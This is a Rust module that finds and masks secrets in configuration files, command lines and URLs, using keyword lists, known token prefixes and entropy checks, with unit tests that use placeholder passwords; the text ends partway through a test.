//! Which parts of a configuration file must not be shown.
//!
//! Works on tokens, not on a tree, because the snippet of a file that does not parse must not
//! show a secret either. Where the nesting is lost, every later string is hidden.

use std::ops::Range;

use jsonc_parser::tokens::Token;
use jsonc_parser::{Scanner, ScannerOptions};

use base::Secret;
use base::secret::MASK;
use base::text::cut;

/// Objects whose values are secrets, whatever their keys.
const SECRET_OBJECTS: [&str; 5] = ["env", "headers", "http_headers", "requestInit", "oauth"];

/// Words that make a key, an option or a query parameter secret, anywhere in its name.
const SECRET_WORDS: &str = "\
    token secret password passwd passphrase apikey accesskey accountkey privatekey authorization \
    credential cookie";

/// Whether a name contains one of `SECRET_WORDS`, ignoring case, `-` and `_`.
fn holds_secret_word(name: &str) -> bool {
    // A tokenizer is none of a token.
    let name = name.to_ascii_lowercase().replace(['-', '_'], "").replace("tokeniz", "");
    SECRET_WORDS.split(' ').any(|word| name.contains(word))
}

/// Whether a key, an option or a parameter has a secret-like name.
pub fn is_secret_name(name: &str) -> bool {
    let short = name.trim_start_matches('-').to_ascii_lowercase();
    let short_words = [
        "key", "auth", "pat", "bearer", "pass", "pw", "pwd", "pin", "tok", "sig", "salt", "webhook",
    ];
    // That of an address grants access to whoever has it.
    holds_secret_word(name) || short_words.contains(&&*short) || short.ends_with("signature")
}

/// Whether a name says that its value is the secret itself: it ends with one of `SECRET_WORDS`, as
/// `--api-token` does and `--token-file` and `--max-tokens` do not.
pub fn names_credential(name: &str) -> bool {
    let name = name.to_ascii_lowercase().replace(['-', '_'], "");
    SECRET_WORDS.split(' ').any(|word| name.ends_with(word))
}

/// Byte ranges of `text` to hide, in order, not overlapping.
pub(crate) fn hidden_ranges(text: &str) -> Vec<Range<usize>> {
    let mut hidden = Vec::new();
    let mut tokens = Vec::new();
    let mut scanner = Scanner::new(text, &ScannerOptions::default());
    loop {
        match scanner.scan() {
            Ok(Some(token)) => tokens.push((token, scanner.token_start()..scanner.token_end())),
            Ok(None) => break,
            Err(_) => {
                // Nothing is known after a broken token: hide the rest except its punctuation.
                hide_rest(text, scanner.token_start().min(text.len()), &mut hidden);
                break;
            }
        }
    }
    let is_comment =
        |token: &Token<'_>| matches!(token, Token::CommentLine(_) | Token::CommentBlock(_));
    // One per open bracket: whether it opens a list, and whether all inside is secret.
    let mut nesting: Vec<(bool, bool)> = Vec::new();
    let mut lost = false;
    let mut around = (0..0, CommandContext { names_user: false });
    let mut before: Vec<&Token<'_>> = Vec::new();
    for (i, (token, range)) in tokens.iter().enumerate() {
        let (in_list, in_secret) = nesting.last().copied().unwrap_or_default();
        if is_comment(token) {
            let comment = text.get(range.clone()).unwrap_or_default();
            // A comment is often a disabled setting.
            if in_secret || lost || is_secret_name(comment) {
                let sign = |line: &str| Some(line.find([':', '='])? + 1);
                hidden.extend(line_ends(text, range.clone(), sign));
            }
            continue;
        }
        let key = match before[..] {
            [.., key, Token::Colon] => word(key),
            // `"A" "value"`, `"env" {`: a missing colon.
            [.., Token::Colon, _] => None,
            [.., key] if !in_list => word(key),
            _ => None,
        };
        let secret = lost
            || in_secret
            || key.is_some_and(|key| is_secret_name(key) || SECRET_OBJECTS.contains(&key));
        match token {
            Token::OpenBrace | Token::OpenBracket => {
                let inside = in_secret || key.is_some_and(|key| SECRET_OBJECTS.contains(&key));
                nesting.push((*token == Token::OpenBracket, inside));
            }
            Token::CloseBrace | Token::CloseBracket => {
                let list = *token == Token::CloseBracket;
                lost |= nesting.pop().is_none_or(|(opened, _)| opened != list);
            }
            Token::Number(_) | Token::Boolean(_) | Token::Null if secret => {
                hidden.push(range.clone());
            }
            Token::String(_) | Token::Word(_) => {
                let value = inner(text, range.clone());
                let mut behind = tokens[i + 1..].iter().map(|(token, _)| token);
                let is_key = behind.find(|token| !is_comment(token)) == Some(&Token::Colon);
                let option = match before[..] {
                    [.., option, Token::Comma] | [.., option] if in_list => word(option),
                    _ => None,
                };
                let shown = text.get(value.clone()).unwrap_or_default();
                let leads = |option| is_option(option) || leads_to_secret(option, shown);
                let after_option = option.is_some_and(leads) && !is_scheme_alone(shown);
                if is_key {
                    // `"TOKEN=value": ""`, a line of an env file pasted as a key.
                    let sign = text.get(value.clone()).and_then(|key| key.find('='));
                    hidden.extend(sign.map(|sign| value.start + sign + 1..value.end));
                } else if after_option || (secret && (key.is_some() || in_list || lost)) {
                    hide_but_references(text, value, &mut hidden);
                } else {
                    // In an object, a string without a key is a key that lacks its colon.
                    let mut spots = secret_spots(shown);
                    if in_list {
                        if !around.0.contains(&i) {
                            around = command_around(&tokens, i);
                        }
                        spots.extend(around.1.spots(option.unwrap_or_default(), shown));
                    }
                    let spots = spots.into_iter();
                    hidden.extend(spots.map(|s| value.start + s.start..value.start + s.end));
                }
            }
            _ => {}
        }
        before.push(token);
    }
    merged(hidden)
}

/// The tokens of the innermost list around one, and what its words say of each other.
fn command_around(
    tokens: &[(Token<'_>, Range<usize>)],
    at: usize,
) -> (Range<usize>, CommandContext) {
    let ends = |(token, _): &(Token<'_>, Range<usize>)| {
        matches!(
            token,
            Token::OpenBracket | Token::CloseBracket | Token::OpenBrace | Token::CloseBrace
        )
    };
    let (before, after) = tokens.split_at(at);
    let start = before.iter().rposition(ends).map_or(0, |end| end + 1);
    let end = after.iter().position(ends).map_or(tokens.len(), |end| at + end);
    let words = tokens[start..end].iter().filter_map(|(token, _)| word(token));
    (start..end, CommandContext::new(words))
}

/// The text of a string or an unquoted word.
fn word<'t>(token: &'t Token<'_>) -> Option<&'t str> {
    match token {
        Token::String(text) => Some(text),
        Token::Word(text) => Some(text),
        _ => None,
    }
}

/// Masks these parts of a text, which must be in order and not overlap. Line breaks within a part
/// are kept, so that line numbers stay correct.
pub(crate) fn replaced(text: &str, parts: impl IntoIterator<Item = Range<usize>>) -> String {
    let mut out = String::with_capacity(text.len());
    let mut at = 0;
    for part in parts {
        out.push_str(text.get(at..part.start).unwrap_or_default());
        out.push_str(MASK);
        at = part.end;
        let lines = text.get(part).unwrap_or_default().matches('\n').count();
        out.extend(std::iter::repeat_n('\n', lines));
    }
    out.push_str(text.get(at..).unwrap_or_default());
    out
}

pub(crate) fn merged(mut ranges: Vec<Range<usize>>) -> Vec<Range<usize>> {
    ranges.retain(|range| !range.is_empty());
    ranges.sort_by_key(|range| range.start);
    let mut out: Vec<Range<usize>> = Vec::with_capacity(ranges.len());
    for range in ranges {
        match out.last_mut() {
            Some(last) if range.start < last.end => last.end = last.end.max(range.end),
            _ => out.push(range),
        }
    }
    out
}

/// The range without its quotes.
fn inner(text: &str, range: Range<usize>) -> Range<usize> {
    let quoted = text.get(range.clone()).is_some_and(|s| s.starts_with(['"', '\'']));
    if quoted && range.len() >= 2 { range.start + 1..range.end - 1 } else { range }
}

/// Hides a secret except for `${NAME}`: the source of a value is not secret, and useful to see.
fn hide_but_references(text: &str, range: Range<usize>, hidden: &mut Vec<Range<usize>>) {
    let value = text.get(range.clone()).unwrap_or_default();
    let mut from = 0;
    for (open, _) in value.match_indices("${") {
        let Some(len) = value.get(open..).and_then(|rest| rest.find('}')) else { break };
        let name = value.get(open + 2..open + len).unwrap_or_default();
        let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | ':' | '.');
        if open >= from && !name.contains(":-") && name.len() <= 64 && name.chars().all(plain) {
            hidden.push(range.start + from..range.start + open);
            from = open + len + 1;
        }
    }
    hidden.push(range.start + from..range.end);
}

/// Of each line in `range`, the part from the offset that `begins` returns up to its end.
pub(crate) fn line_ends(
    text: &str,
    range: Range<usize>,
    begins: impl Fn(&str) -> Option<usize>,
) -> Vec<Range<usize>> {
    let mut at = range.start;
    let mut found = Vec::new();
    for line in text.get(range).unwrap_or_default().split_inclusive('\n') {
        let end = line.trim_end().len();
        found.extend(begins(line).filter(|from| *from < end).map(|from| at + from..at + end));
        at += line.len();
    }
    found
}

/// Hides everything from `start` on, except JSON punctuation, line breaks and leading white space.
fn hide_rest(text: &str, start: usize, hidden: &mut Vec<Range<usize>>) {
    let mut run: Option<usize> = None;
    let rest = text.get(start..).unwrap_or_default();
    for (i, c) in rest.char_indices() {
        let plain = c == '\n' || matches!(c, '{' | '}' | '[' | ']' | ',' | '"');
        match (plain, run) {
            (true, Some(from)) => {
                hidden.push(from..start + i);
                run = None;
            }
            (false, None) if !c.is_whitespace() => run = Some(start + i),
            _ => {}
        }
    }
    if let Some(from) = run {
        hidden.push(from..text.len());
    }
}

// What counts as a secret: values with a secret-like name, and values that look like
// a credential. Plain words, numbers, paths, regions and addresses without a user do not.

/// Words that make a name secret as its last part: `API_KEY`, `githubToken`.
const WORDS: &str = "\
    token tok key apikey secret password passwd passwort pass passphrase pw pwd pin auth \
    authorization credential credentials creds cookie bearer pat dsn signing salt hmac webhook \
    license licence otp totp mfa nonce jwt session sid passcode pincode mnemonic phrase";

/// Those that are a setting as often as a secret, which the look of the value decides.
const UNSURE: &str = "tokens keys pats private access seed";

/// Those that make a name secret in any position: `PASSWORD_FILE_CONTENT`.
const STRONG: &str = "secret password passwd passphrase authorization";

/// Prefixes of the tokens of well-known services.
pub const TOKEN_PREFIXES: [&str; 43] = [
    "sk-",
    "sk_",
    "pk_",
    "rk_",
    "ghp_",
    "gho_",
    "ghu_",
    "ghs_",
    "ghr_",
    "github_pat_",
    "glpat-",
    "xoxb-",
    "xoxp-",
    "xoxa-",
    "xoxe-",
    "xoxe.",
    "xoxr-",
    "xoxs-",
    "xapp-",
    "AKIA",
    "ASIA",
    "AIza",
    "ya29.",
    "eyJ",
    "npm_",
    "pypi-",
    "hf_",
    "SG.",
    "dop_v1_",
    "dckr_pat_",
    "shpat_",
    "sq0",
    "lin_api_",
    "ntn_",
    "tvly-",
    "gsk_",
    "r8_",
    "figd_",
    "pat-",
    "key-",
    "whsec_",
    "AGE-SECRET-KEY",
    "Bearer ",
];

/// Shortest token with such a prefix, in bytes.
pub(crate) const MIN_TOKEN_BYTES: usize = 12;

/// Shortest value that is judged by its look, in bytes.
const MIN_RANDOM_BYTES: usize = 20;

/// Whether a text begins as a token of a well-known service does.
fn begins_token(text: &str) -> bool {
    text.len() >= MIN_TOKEN_BYTES && TOKEN_PREFIXES.iter().any(|prefix| text.starts_with(prefix))
}

/// Whether the value of a variable or header must not be shown.
pub fn is_secret(name: &str, value: &str) -> bool {
    looks_secret(value)
        || (named_secret(name, value) && !is_place(value))
        || is_webhook(name, value)
        // A secret among settings: `Server=h;Password=x`, `--token x`.
        || !secret_spots(value).is_empty()
}

/// Whether an address is itself the credential, by the name of its variable.
fn is_webhook(name: &str, value: &str) -> bool {
    let is_named = words(name).iter().any(|word| word.contains("webhook"));
    is_named && value.split_once("://").is_some_and(|(_, rest)| rest.contains('/'))
}

/// Whether a value looks like a credential, whatever its name.
pub(crate) fn looks_secret(value: &str) -> bool {
    let value = value.trim();
    if value.contains("-----BEGIN") || has_user(value) || has_secret_path(value) {
        return true;
    }
    (begins_token(value) && !is_place(value)) || is_random(value)
}

fn named_secret(name: &str, value: &str) -> bool {
    let words = words(name);
    let is = |word: &String, list: &str| {
        list.split(' ').any(|w| word == w || (w.len() > 5 && word.contains(w)))
    };
    let last = words.iter().rev().find(|word| !word.chars().all(|c| c.is_ascii_digit()));
    if last.is_some_and(|word| is(word, WORDS)) || words.iter().any(|word| is(word, STRONG)) {
        return true;
    }
    // `TOKEN_LIMIT=4096` and `AUTH_MODE=none` are settings; `TOKEN_PROD=a1b2c3` is a secret.
    words.iter().any(|word| is(word, WORDS) || is(word, UNSURE))
        && !is_plain(value)
        && !is_place(value)
}

/// The words of a name in lower case, split at separators and before capitals.
fn words(name: &str) -> Vec<String> {
    let mut out = vec![String::new()];
    let mut before = ' ';
    for c in name.chars() {
        let begins = before.is_ascii_lowercase() && c.is_ascii_uppercase();
        if !c.is_ascii_alphanumeric() || begins {
            out.push(String::new());
        }
        if c.is_ascii_alphanumeric()
            && let Some(word) = out.last_mut()
        {
            word.push(c.to_ascii_lowercase());
        }
        before = c;
    }
    out.retain(|word| !word.is_empty());
    out
}

/// Whether a value consists of plain words and numbers.
fn is_plain(value: &str) -> bool {
    let part = |part: &str| {
        part.chars().all(char::is_alphabetic) || part.chars().all(|c| c.is_ascii_digit())
    };
    value.split(['-', '_', '.', ' ', ',', ':']).all(part)
}

/// Whether a value is a path, or an address without a user.
fn is_place(value: &str) -> bool {
    let drive = value.get(1..3).is_some_and(|rest| rest == ":\\" || rest == ":/");
    let path =
        value.starts_with(['/', '~', '.']) && value.contains('/') && value.matches('/').count() > 1;
    let file = (value.starts_with("./") || value.starts_with("~/") || value.starts_with('/'))
        && value.contains('.');
    drive || path || file || (value.contains("://") && !has_user(value))
}

/// Whether a value looks random: long, one word, and often alternating letters and digits.
fn is_random(value: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || "+/=_-.~".contains(c);
    if value.len() < MIN_RANDOM_BYTES
        || !value.chars().all(plain)
        || is_place(value)
        || is_uuid(value)
    {
        return false;
    }
    let chars: Vec<char> = value.chars().collect();
    let pairs = chars.windows(2).filter(|pair| pair.iter().all(char::is_ascii_alphanumeric));
    let changes = pairs.filter(|p| p[0].is_ascii_digit() != p[1].is_ascii_digit()).count();
    changes >= 4 && entropy(&chars) >= 3.0
}

/// Whether a value has the form of a UUID, which names a thing more often than it opens one.
fn is_uuid(value: &str) -> bool {
    let parts: Vec<&str> = value.split('-').collect();
    let lengths = parts.iter().map(|part| part.len());
    lengths.eq([8, 4, 4, 4, 12]) && value.chars().all(|c| c == '-' || c.is_ascii_hexdigit())
}

/// Whether the path of an address holds what looks random, as in the addresses of webhooks.
fn has_secret_path(text: &str) -> bool {
    let mut found = Vec::new();
    paths(text, true, &mut found);
    !found.is_empty()
}

/// Most bytes of an address that are looked at.
const MAX_ADDRESS_BYTES: usize = 8 << 10;

/// Finds the secret parts of the path of each address: those behind a step that leads to a key, and
/// with `by_look` those that look random.
pub(crate) fn paths(text: &str, by_look: bool, found: &mut Vec<Range<usize>>) {
    for (scheme, _) in text.match_indices("://") {
        let start = scheme + 3;
        let rest = cut(text.get(start..).unwrap_or_default(), MAX_ADDRESS_BYTES);
        let end = rest.find(|c: char| ends_value(c) || matches!(c, '?' | '#'));
        let rest = rest.get(..end.unwrap_or(rest.len())).unwrap_or_default();
        let (mut at, mut after) = (start, false);
        for (index, part) in rest.split('/').enumerate() {
            let is_key = by_look && (is_random(part) || begins_token(part));
            if index > 0 && (is_key || (after && !is_plain_step(part))) {
                found.push(at..at + part.len());
            }
            after |= if index == 0 { leads_hooks(part) } else { leads_to_key(part) };
            at += part.len() + 1;
        }
    }
}

/// Whether the host of an address is one of webhooks: `hooks.example.com`.
fn leads_hooks(authority: &str) -> bool {
    let host = authority.rsplit('@').next().unwrap_or_default();
    host.split(['.', '-', ':'])
        .any(|label| ["hook", "hooks", "webhook", "webhooks"].contains(&label))
}

/// Whether what follows a part of a path opens what it leads to: `/webhooks/ID/KEY`, `/token/KEY`.
fn leads_to_key(part: &str) -> bool {
    let words = words(part);
    words.iter().any(|word| ["hooks", "webhook", "webhooks"].contains(&word.as_str()))
        || (!part.is_empty() && part.len() <= 24 && holds_secret_word(part))
        || part.eq_ignore_ascii_case("key")
}

/// Whether a part of a path is a plain step of it: a short word in lower case, a number, a version.
fn is_plain_step(part: &str) -> bool {
    const MAX_STEP_BYTES: usize = 10;
    let part = part.trim_end_matches(char::is_numeric).trim_end_matches('-');
    part.len() <= MAX_STEP_BYTES && part.chars().all(|c| c.is_ascii_lowercase())
}

/// Shannon entropy in bits per character.
fn entropy(chars: &[char]) -> f64 {
    let mut counts = std::collections::BTreeMap::new();
    for c in chars {
        *counts.entry(c).or_insert(0.0) += 1.0;
    }
    let all = chars.len() as f64;
    counts.values().map(|count: &f64| -(count / all) * (count / all).log2()).sum()
}

// Locates secrets in an argument, an address or any other short text.

/// Whether a character ends a value within a word. What follows is shown: it may be shell code, and
/// the user must see what a command runs before approving it.
fn ends_value(c: char) -> bool {
    c.is_whitespace()
        || matches!(c, '&' | ';' | '|' | '<' | '>' | '(' | ')' | ',' | '"' | '\'' | '`' | '}')
}

/// Authorisation schemes in front of the secret.
const SCHEMES: [&str; 4] = ["bearer ", "basic ", "token ", "digest "];

/// The secret parts of a text, in order, not overlapping: the user of an address, what follows
/// `Bearer`, and the value in `--token=X`, `X-Api-Key: X`, `--token X` and the like. References
/// such as `${TOKEN}` are not secret.
fn secret_spots(text: &str) -> Vec<Range<usize>> {
    let mut found = Vec::new();
    users(text, &mut found);
    paths(text, true, &mut found);
    named(text, &mut found);
    options(text, &mut found);
    schemes(text, &mut found);
    found.retain(|spot: &Range<usize>| {
        text.get(spot.clone()).is_some_and(|value| !value.is_empty() && !is_reference(value))
    });
    merged(found)
}

/// A text, such as an address, with those parts replaced: user, password and secret parameters.
pub fn masked_address(text: &str) -> String {
    replaced(text, secret_spots(text))
}

/// Whether a value is only a reference, without a default, which might hold the secret itself.
pub(crate) fn is_reference(text: &str) -> bool {
    text.strip_prefix("${")
        .and_then(|rest| rest.strip_suffix('}'))
        .is_some_and(|inside| !inside.contains(":-") && !inside.contains(['{', '}']))
}

/// Whether an address in the text names a user.
fn has_user(text: &str) -> bool {
    let mut found = Vec::new();
    users(text, &mut found);
    !found.is_empty()
}

/// Finds user and password in front of the host of each address.
pub(crate) fn users(text: &str, found: &mut Vec<Range<usize>>) {
    for (scheme, _) in text.match_indices("://") {
        let start = scheme + 3;
        let rest = cut(text.get(start..).unwrap_or_default(), MAX_ADDRESS_BYTES);
        let end = rest
            .find(|c: char| c.is_whitespace() || matches!(c, '/' | '?' | '#' | '"' | '\''))
            .unwrap_or(rest.len());
        if let Some(at) = rest.get(..end).and_then(|authority| authority.rfind('@')) {
            found.push(start..start + at);
        }
    }
}

/// Finds the values of `NAME=` and `NAME:` where the name is secret-like.
pub(crate) fn named(text: &str, found: &mut Vec<Range<usize>>) {
    let mut from = 0;
    while let Some(sign) = text.get(from..).and_then(|rest| rest.find(['=', ':'])) {
        let sign = from + sign;
        from = sign + 1;
        let before = text.get(..sign).unwrap_or_default().trim_end_matches(['"', '\'', ' ']);
        let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.');
        let name = before.get(before.trim_end_matches(plain).len()..).unwrap_or_default();
        let rest = text.get(from..).unwrap_or_default();
        let colon = text.as_bytes().get(sign) == Some(&b':');
        // In `${TOKEN:-text}` the secret follows `:-`; in `token:/run` the value is a folder.
        let value = if colon { rest.strip_prefix('-').unwrap_or(rest) } else { rest };
        if !is_secret_name(name) || (colon && value.starts_with(['/', '.', '\\'])) {
            continue;
        }
        let start = text.len() - behind_scheme(value.trim_start_matches(['"', '\'', ' '])).len();
        let spot = value_at(text, start);
        from = from.max(spot.end);
        found.push(spot);
    }
}

/// Finds the value after an option such as `--token`, in a text of several words.
pub(crate) fn options(text: &str, found: &mut Vec<Range<usize>>) {
    let mut at = 0;
    let mut after = false;
    for word in text.split_inclusive(char::is_whitespace) {
        let bare = word.trim_end();
        if std::mem::replace(&mut after, bare.starts_with('-') && is_option(bare))
            && !bare.is_empty()
            && !bare.starts_with('-')
        {
            found.push(value_at(
                text,
                at + (bare.len() - bare.trim_start_matches(['"', '\'']).len()),
            ));
        }
        at += word.len();
    }
}

/// Whether a word is an option whose value is the next word.
fn is_option(word: &str) -> bool {
    word.starts_with('-') && !word.contains(['=', ':']) && is_secret_name(word)
}

/// Whether a word before a value makes it a secret, though it is no option: the scheme of an
/// authorization, or the name of a header with its colon.
fn leads_to_secret(before: &str, value: &str) -> bool {
    let before = before.trim_end().to_ascii_lowercase();
    let is_scheme = |text: &str| SCHEMES.iter().any(|scheme| scheme.trim_end() == text);
    if is_scheme(value.trim().to_ascii_lowercase().as_str()) || value.starts_with('-') {
        return false;
    }
    let last = before.rsplit([' ', ':', '=']).next().unwrap_or_default();
    // `token run` and `basic auth` are words: the two schemes that are also words follow a header.
    let is_header = before.rsplit_once([':', '=']).is_some_and(|(name, _)| is_secret_name(name));
    last == "bearer"
        || (is_header && is_scheme(last))
        || before.strip_suffix(':').is_some_and(is_secret_name)
}

/// What the other words of a command line say of the short options in it, `-u` and `-p`, which mean
/// something else in every program.
struct CommandContext {
    /// Whether it names a user, so that `-p` is a password.
    names_user: bool,
}

/// Options that name a user.
const USER_OPTIONS: [&str; 5] = ["-u", "-U", "--user", "--username", "--login"];

impl CommandContext {
    fn new<'a>(mut words: impl Iterator<Item = &'a str>) -> Self {
        let is_user = |word: &str| {
            let name = word.split('=').next().unwrap_or_default();
            USER_OPTIONS.contains(&name)
        };
        Self { names_user: words.any(is_user) }
    }

    /// The secret part of a word behind `option`: `user:PASSWORD` of `-u`, the value of `-p`.
    fn spots(&self, option: &str, word: &str) -> Option<Range<usize>> {
        let (option, start) = match word.split_once('=') {
            Some((name, _)) if name.starts_with('-') => (name, name.len() + 1),
            _ if word.starts_with("-p") && !word.starts_with("--") => ("-p", 2),
            _ => (option, 0),
        };
        let value = word.get(start..).filter(|value| !value.is_empty() && !is_reference(value))?;
        if option == "-p" && (start != 0 || !word.starts_with('-')) {
            let by_user = self.names_user && (start != 2 || !value.starts_with('/'));
            let is_secret = looks_like_password(value) || by_user;
            return (is_secret && !is_port(value) && !names_package(value))
                .then_some(start..word.len());
        }
        if USER_OPTIONS.contains(&option) && !value.starts_with('-') {
            let (user, password) = value.split_once(':')?;
            let is_place = value.contains("://") || (user.len() == 1 && password.starts_with('\\'));
            let is_host = (user.contains('.') || user == "localhost") && is_port(password);
            let is_id = [user, password].iter().all(|it| it.chars().all(|c| c.is_ascii_digit()));
            let is_shown = is_place || is_host || is_id || password.is_empty();
            return (!is_shown && !is_reference(password))
                .then_some(start + user.len() + 1..word.len());
        }
        None
    }
}

/// Whether a value is a port, or a mapping of ports: `8080`, `8080:80`, `127.0.0.1:8080:80/tcp`.
fn is_port(value: &str) -> bool {
    let value = value.trim_end_matches("/tcp").trim_end_matches("/udp");
    let is_number = |part: &str| {
        let mut ends = part.splitn(2, '-');
        ends.all(|end| end.parse::<u16>().is_ok())
    };
    let is_address = |part: &str| part.parse::<std::net::IpAddr>().is_ok() || part == "localhost";
    let mut parts = value.rsplit(':');
    parts.next().is_some_and(is_number) && parts.all(|part| is_number(part) || is_address(part))
}

/// Whether a value names a package, a folder or an address rather than a password.
fn names_package(value: &str) -> bool {
    value.starts_with(['@', '.', '/', '~'])
        || value.contains("://")
        || value.contains('/')
        || value.get(1..3) == Some(":\\")
}

/// Whether a value has signs that passwords have, and names of packages and profiles do not.
fn looks_like_password(value: &str) -> bool {
    looks_secret(value) || value.contains(['!', '#', '$', '%', '^', '&', '*', '?'])
}

/// Finds what follows `Bearer` or `Basic`, anywhere in the text.
pub(crate) fn schemes(text: &str, found: &mut Vec<Range<usize>>) {
    let lower = text.to_ascii_lowercase();
    for scheme in ["bearer ", "basic "] {
        let mut end = 0;
        for (at, _) in lower.match_indices(scheme) {
            let start = at + scheme.len();
            if start >= end {
                let spot = value_at(text, start);
                end = spot.end;
                found.push(spot);
            }
        }
    }
}

/// A value without a leading authorisation scheme.
pub(crate) fn behind_scheme(value: &str) -> &str {
    let named = |scheme: &&&str| {
        value.get(..scheme.len()).is_some_and(|start| start.eq_ignore_ascii_case(scheme))
    };
    SCHEMES
        .iter()
        .find(named)
        .and_then(|scheme| value.get(scheme.len()..))
        .map_or(value, |rest| rest.trim_start())
}

/// The range of the value that starts at `start`; the brace of a reference does not end it.
fn value_at(text: &str, start: usize) -> Range<usize> {
    let rest = text.get(start..).unwrap_or_default();
    let mut open = 0_usize;
    let mut last = ' ';
    for (at, c) in rest.char_indices() {
        match c {
            '{' if last == '$' => open += 1,
            '}' if open > 0 => open -= 1,
            c if open == 0 && ends_value(c) => return start..start + at,
            _ => {}
        }
        last = c;
    }
    start..text.len()
}

// Secrets in command lines and addresses: which words they are, and how they are shown.

/// The words of a command line, each with its secret parts: all of the word after `--token`, the
/// value in `--token=value`, in a header, the password of an address, what follows `Bearer`, the
/// password of `-u USER:PASSWORD`, and the value of `-p` where it is one.
fn arguments(args: &[String]) -> impl Iterator<Item = (&str, Vec<Range<usize>>)> {
    let context = CommandContext::new(args.iter().map(String::as_str));
    let mut before = "";
    args.iter().map(move |arg| {
        let option = std::mem::replace(&mut before, arg);
        let follows = is_option(option) || leads_to_secret(option, arg);
        if follows && !arg.starts_with('-') && !is_reference(arg) && !is_scheme_alone(arg) {
            return (arg.as_str(), std::iter::once(0..arg.len()).collect());
        }
        let mut spots = secret_spots(arg);
        spots.extend(context.spots(option, arg));
        (arg.as_str(), merged(spots))
    })
}

/// Whether a word is `Bearer`, whose value is the next one.
fn is_scheme_alone(word: &str) -> bool {
    SCHEMES.iter().any(|scheme| scheme.trim_end().eq_ignore_ascii_case(word.trim()))
}

/// The secrets of a command line.
pub(crate) fn secret_arguments(args: &[String]) -> Vec<Secret> {
    let mut out = Vec::new();
    for (arg, spots) in arguments(args) {
        out.extend(spots.into_iter().filter_map(|spot| arg.get(spot)).map(Secret::new));
        let address = arg.split_once('=').map_or(arg, |(_, value)| value);
        if address.contains("://") {
            out.extend(url::Url::parse(address).iter().flat_map(secret_of_address));
        }
    }
    out
}

/// The secrets among the settings of a value, and in an address that it is.
pub(crate) fn secrets_within(value: &str) -> Vec<Secret> {
    let spots = secret_spots(value);
    let parts = spots.into_iter().filter_map(|spot| value.get(spot)).filter(|part| *part != value);
    let mut out: Vec<Secret> = parts.map(Secret::new).collect();
    if value.contains("://") {
        out.extend(url::Url::parse(value).iter().flat_map(secret_of_address));
    }
    out
}

/// The secrets of an address: its password, or the user without one, and parameters with a
/// secret-like name.
pub(crate) fn secret_of_address(url: &url::Url) -> Vec<Secret> {
    let parameters = url.query_pairs().filter(|(name, _)| is_secret_name(name));
    let values = parameters.map(|(_, value)| value.into_owned());
    let user = Some(url.username()).filter(|user| !user.is_empty());
    let word = url.password().or(user).map(str::to_owned);
    let text = url.as_str();
    let mut spots = Vec::new();
    paths(text, true, &mut spots);
    let parts = spots.into_iter().filter_map(|spot| text.get(spot)).map(str::to_owned);
    word.into_iter().chain(values).chain(parts).map(Secret::new).collect()
}

/// Arguments with what looks secret replaced.
pub fn masked_arguments(args: &[String]) -> Vec<String> {
    arguments(args).map(|(arg, spots)| replaced(arg, spots)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn masked(text: &str) -> String {
        let mut out = text.to_owned();
        for range in hidden_ranges(text).into_iter().rev() {
            out.replace_range(range, "*");
        }
        out
    }

    #[test]
    fn values_of_env_and_headers_are_hidden_and_their_names_are_not() {
        assert_eq!(
            masked(r#"{"env":{"A":"s1","B":7},"headers":{"X-Y":"s2"},"command":"npx"}"#),
            r#"{"env":{"A":"*","B":*},"headers":{"X-Y":"*"},"command":"npx"}"#
        );
    }

    #[test]
    fn secrets_in_arguments_and_addresses_are_hidden() {
        assert_eq!(
            masked(
                r#"{"args":["--token","s1","--api-key=s2","-v"],"url":"https://u:p@h/x?token=s3&a=b"}"#
            ),
            r#"{"args":["--token","*","--api-key=*","-v"],"url":"https://*@h/x?token=*&a=b"}"#
        );
    }

    /// Programs keep lists of any length in their files, and minify them.
    #[test]
    fn a_list_of_any_length_is_looked_through_once() {
        let words: Vec<String> = (0..200_000).map(|n| format!("\"word {n}\"")).collect();
        let text = format!("{{\"a\": [{}, \"-u\", \"me:hunter22\"]}}", words.join(","));
        assert!(masked(&text).ends_with("\"word 199999\", \"-u\", \"me:*\"]}"));
    }

    #[test]
    fn a_broken_file_hides_its_secrets_too() {
        for text in [
            r#"{"env" {"A":"hunter2"}}"#,
            r#"{"env":{"A" "hunter2"}}"#,
            r#"{"env":{"A":"hunter2" "B":"hunter2"}}"#,
            r#"{"env":{"A":"hunter2}"#,
            r#"{"a":1}}{"x":"hunter2"}"#,
            r#"{"env":{"A":hunter2}}"#,
            "{\"env\":{// \"OLD\":\"hunter2\"\n}}",
            r#"{"env":{"A":'hunter2'}}"#,
        ] {
            assert!(!masked(text).contains("hunter2"), "{text} -> {}", masked(text));
        }
    }
}

#[cfg(test)]
mod credential_tests {
    use super::*;

    #[test]
    fn what_opens_something_is_found_within_a_value() {
        for (value, secret) in [
            ("Server=h;User Id=me;Password=sesame;", "sesame"),
            ("--port 80 --api-key sesame", "sesame"),
            ("postgres://me:swordfish@db/x", "swordfish"),
            ("Bearer open-sesame", "open-sesame"),
        ] {
            let found = secrets_within(value);
            assert!(found.iter().any(|found| found.expose() == secret), "{value}");
        }
        assert!(secrets_within("production").is_empty());
        assert!(
            secrets_within("open-sesame").is_empty(),
            "the value as a whole is judged elsewhere"
        );
    }

    #[test]
    fn names_and_looks_make_a_secret_and_settings_are_none() {
        for (name, value) in [
            ("API_KEY", "sesame"),
            ("GITHUB_TOKEN", "open-sesame"),
            ("githubToken", "open-sesame"),
            ("DB_PASSWORD", "swordfish"),
            ("DB_PASSWORD_2", "swordfish"),
            ("PGPASSWORD", "swordfish"),
            ("TOKEN_PROD", "a1b2c3"),
            ("Authorization", "Bearer abc"),
            ("X-Api-Key", "sesame"),
            ("DATABASE_URL", "postgres://me:secret@db/x"),
            ("WALLET_PASSCODE", "1234"),
            ("PINCODE", "0042"),
            ("SEED_PHRASE", "open the old door"),
            ("API_TOKENS", "a1b2c3,d4e5f6"),
            ("ENCRYPTION_KEYS", "k1:9f8e7d"),
            ("SSH_PRIVATE", "b3BlbnNz/aC1rZXk"),
            ("DB_CONNECTION", "Server=h;User Id=me;Password=sesame;"),
            ("EXTRA_ARGS", "--port 80 --api-key sesame"),
            ("HEADERS", "{\"X-Api-Key\": \"sesame\"}"),
            ("OPAQUE", "ghp_16C7e42F292c6912E7"),
            ("OPAQUE", "q7Zk29fLw0Xn4Rt8Bv6Yp3"),
